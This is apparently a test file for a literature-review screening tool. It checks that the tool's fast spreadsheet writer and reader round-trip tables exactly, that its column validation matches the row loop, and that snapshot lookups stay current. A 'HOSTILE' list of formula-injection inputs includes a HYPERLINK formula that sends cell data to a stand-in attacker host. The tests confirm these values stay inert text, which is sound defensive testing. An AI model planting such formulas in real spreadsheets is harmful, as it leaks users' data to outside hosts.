"""Issue 15, sheets and snapshots at scale: the fast paths give what the full ones gave.

* XLSX: written in openpyxl's write-only mode, read by a streaming reader for the plain case;
  every table reads back exactly, formulas stay text, and a workbook outside the plain case
  (dates, booleans, fractions, blank rows) reads as pandas and openpyxl read it.
* Validation: whole columns at once, the row loop only to name the first bad row; both agree.
* Snapshot lookups: one folder listing, made again when the folder changes.
"""

from __future__ import annotations

import datetime as dt
import io
import os
from unittest import mock

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reviewkit import screening, tables
from reviewkit.errors import ReviewkitError
from reviewkit.screening import sheet_columns, validate_sheet
from reviewkit.snapshot import Snapshot
from reviewkit.tables import _fast_xlsx_rows, read_xlsx, xlsx_bytes

TA = ("animal study", "review or meta-analysis", "other")
FT = ("wrong population", "other")


def _pandas_read(data: bytes) -> pd.DataFrame:
    """What read_xlsx gave before the fast reader: pandas and openpyxl, escapes decoded."""
    frame = pd.read_excel(io.BytesIO(data), dtype=str, keep_default_na=False, engine="openpyxl")
    frame.columns = [tables._ooxml_unescape(c) for c in frame.columns]
    return frame.map(tables._ooxml_unescape).astype(object)


def _read(tmp_path, data: bytes, name: str = "t.xlsx") -> pd.DataFrame:
    path = tmp_path / name
    path.write_bytes(data)
    return read_xlsx(path).astype(object)


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1 call", "-2+3", "@SUM(1)", "\tx", "\rx", "-0.5",
           "a\r\nb", "  spaced  ", "_x0041_ literal", "x005F_", "bell\x07", "ünïcödé ✓", "", "1", "007", "1e5"]


def test_written_sheet_reads_back_exactly_and_formulas_stay_text(tmp_path):
    table = pd.DataFrame({"record_id": [f"PMID:{i}" for i in range(len(HOSTILE))], "notes": HOSTILE,
                          "=odd header": HOSTILE[::-1], "priority": [i + 1 for i in range(len(HOSTILE))]})
    data = xlsx_bytes(table, "title_abstract", widths=[16, 30], freeze="B2")
    assert _fast_xlsx_rows(data) is not None  # the plain case: the fast reader read it
    expected = table.assign(priority=table["priority"].astype(str)).astype(object)
    pd.testing.assert_frame_equal(_read(tmp_path, data), expected)
    pd.testing.assert_frame_equal(_pandas_read(data), expected)
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert ws.freeze_panes == "B2" and ws.column_dimensions["A"].width == 16
    formula = ws.cell(row=2, column=2)
    assert formula.value == HOSTILE[0] and formula.data_type == "s" and formula.quotePrefix
    assert ws.cell(row=1, column=3).data_type == "s" and ws.cell(row=1, column=3).font.b
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


_text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=12)


@settings(max_examples=25, deadline=None)
@given(st.lists(st.tuples(_text, _text, st.integers(0, 10**6)), min_size=1, max_size=6))
def test_any_text_table_reads_back_the_same_through_both_readers(rows):
    table = pd.DataFrame([[f"id{i}", a, b, str(n)] for i, (a, b, n) in enumerate(rows)],
                         columns=["record_id", "a", "b", "n"], dtype=object)
    data = xlsx_bytes(table.assign(n=[int(v) for v in table["n"]]), "s")
    fast = _fast_xlsx_rows(data)
    full = _pandas_read(data)
    if fast is not None:  # a blank row (all of a, b empty cannot happen: record_id) or the like falls back
        got = pd.DataFrame(fast[1:], columns=fast[0], dtype=object)
        got = got.map(tables._ooxml_unescape).astype(object)
        pd.testing.assert_frame_equal(got, full)
    buffer = io.BytesIO(data)
    with mock.patch.object(tables, "read_bytes", lambda *a, **k: buffer.getvalue()):
        pd.testing.assert_frame_equal(read_xlsx("unused.xlsx").astype(object), full)


def test_a_workbook_outside_the_plain_case_reads_as_pandas_and_openpyxl_read_it(tmp_path):
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["record_id", "when", "flag", "share", "count", "rich"])
    ws.append(["a", dt.datetime(2024, 5, 1), True, 0.25, 3, "x"])
    ws.append(["b", dt.date(2020, 1, 2), False, 1.5, 4.0, "y"])
    ws.append([])
    ws.append(["c", None, None, None, None, "z"])
    buffer = io.BytesIO()
    book.save(buffer)
    data = buffer.getvalue()
    assert _fast_xlsx_rows(data) is None  # dates, booleans, fractions, a blank row: openpyxl reads it
    pd.testing.assert_frame_equal(_read(tmp_path, data), _pandas_read(data))


def test_a_spreadsheet_saved_with_shared_strings_and_numbers_reads_as_before(tmp_path):
    book = openpyxl.Workbook()  # openpyxl's ordinary mode writes shared strings, as spreadsheet programs do
    ws = book.active
    ws.append(["record_id", "final", "priority", "notes"])
    for i in range(30):
        ws.append([f"PMID:{i}", "include" if i % 3 else "", i + 1, "_x0009_ tab" if i == 4 else f"n{i}"])
    ws["D9"] = "=1+1"  # a formula with no cached value: read as empty by both
    buffer = io.BytesIO()
    book.save(buffer)
    data = buffer.getvalue()
    pd.testing.assert_frame_equal(_read(tmp_path, data), _pandas_read(data))


def test_a_damaged_workbook_is_still_named(tmp_path):
    data = xlsx_bytes(pd.DataFrame({"record_id": ["a"]}), "s")
    path = tmp_path / "cut.xlsx"
    path.write_bytes(data[: len(data) // 2])
    with pytest.raises(ReviewkitError, match="cut.xlsx: cannot read the screening sheet"):
        read_xlsx(path, "screening sheet")


def _sheet(stage: str, rows: list[dict]) -> pd.DataFrame:
    return pd.DataFrame([{c: r.get(c, "") for c in sheet_columns(stage)} for r in rows], dtype=object)


_value = st.sampled_from(["", "include", " Include ", "EXCLUDE", "maybe", "yes", "no", "No", "other", "OTHER",
                          "animal study", "wrong population", "1", "12", "0", "x"])


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(["title_abstract", "full_text"]),
       st.lists(st.fixed_dictionaries({
           "record_id": st.sampled_from(["PMID:1", "PMID:2", "PMID:3", "PMID:4", "", " PMID:5 "]),
           "final": _value, "reviewer1": _value, "reviewer2": _value, "exclusion_reason": _value,
           "retrieved": _value, "priority": _value, "status": st.sampled_from(["", "no longer retrieved", "x"]),
           "suggestion": st.sampled_from(["", "exclude", "check", "?"])}), max_size=5))
def test_validation_on_whole_columns_agrees_with_the_row_loop(stage, rows):
    sheet = _sheet(stage, rows)
    reasons = TA if stage == "title_abstract" else FT

    def outcome(check):
        try:
            return check()
        except ReviewkitError as exc:
            return str(exc)

    fast = outcome(lambda: validate_sheet(sheet, stage, reasons, "f.csv"))
    with mock.patch.object(screening, "_normalised", lambda *a: None):
        slow = outcome(lambda: validate_sheet(sheet, stage, reasons, "f.csv"))
    if isinstance(slow, str):
        assert fast == slow
    else:
        pd.testing.assert_frame_equal(fast, slow)


def test_a_sheet_written_unchanged_is_not_written_again(tmp_path):
    sheet = _sheet("title_abstract", [{"record_id": "PMID:1", "title": "=cmd", "final": "include"}])
    assert screening.write_sheet(tmp_path, "title_abstract", sheet)
    before = {p.name: p.stat().st_mtime_ns for p in tmp_path.glob("title_abstract.*")}
    assert not screening.write_sheet(tmp_path, "title_abstract", sheet)
    assert {p.name: p.stat().st_mtime_ns for p in tmp_path.glob("title_abstract.*")} == before


# --- snapshot lookups --------------------------------------------------------------------------------------------

def test_exchange_lookups_see_answers_recorded_after_the_folder_was_listed(tmp_path):
    reader = Snapshot.create(tmp_path / "snap", sample=False, note="t")
    writer = Snapshot.open(tmp_path / "snap")
    params = {"db": "pubmed", "term": "x"}
    assert reader.versions("esearch", params) == []
    writer.put("esearch", params, b"<eSearchResult/>")
    assert reader.get("esearch", params).body == b"<eSearchResult/>"  # listed again: the folder is new
    # A listing older than the folder's last change is made again, however old the folder looks.
    folder = tmp_path / "snap" / "exchanges"
    os.utime(folder, ns=(0, 0))
    assert len(reader.versions("esearch", params)) == 1  # listed now, with the folder 1970-old: trusted
    writer.put("esearch", params, b"<eSearchResult><Count>1</Count></eSearchResult>")
    assert len(reader.versions("esearch", params)) == 2
    assert reader.get("esearch", params).body.endswith(b"</eSearchResult>")


def test_rows_made_a_column_at_a_time_are_the_xml_openpyxl_writes():
    import zipfile

    rows = 400  # above the size from which the rows are made here
    table = pd.DataFrame({"record_id": [f"PMID:{i}" for i in range(rows)],
                          "notes": [HOSTILE[i % len(HOSTILE)] + ("<&>" if i % 5 == 0 else "") for i in range(rows)],
                          "=odd header": [HOSTILE[(i * 7) % len(HOSTILE)] for i in range(rows)],
                          "priority": [i if i % 3 else "" for i in range(rows)]})

    def sheet_xml(data: bytes) -> bytes:
        return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")

    fast = xlsx_bytes(table, "title_abstract", widths=[16, 30], freeze="B2")
    assert sheet_xml(fast) == sheet_xml(tables._openpyxl_xlsx_bytes(table, "title_abstract", widths=[16, 30],
                                                                     freeze="B2"))
    expected = table.assign(priority=table["priority"].astype(str)).astype(object)
    assert _fast_xlsx_rows(fast) is not None
    buffer = io.BytesIO(fast)
    with mock.patch.object(tables, "read_bytes", lambda *a, **k: buffer.getvalue()):
        pd.testing.assert_frame_equal(read_xlsx("unused.xlsx").astype(object), expected)
    pd.testing.assert_frame_equal(_pandas_read(fast), expected)
    # A column of anything else (a float, a missing value) is written by openpyxl, cell by cell.
    assert not tables._text_or_whole(pd.Series([1, 0.5])) and not tables._text_or_whole(pd.Series(["a", None]))
    assert not tables._text_or_whole(pd.Series([True])) and tables._text_or_whole(pd.Series(["a", 1, ""]))
    for odd in (table.assign(share=0.5), table.assign(missing=None)):
        assert _pandas_read(xlsx_bytes(odd, "s")).shape == (rows, 5)
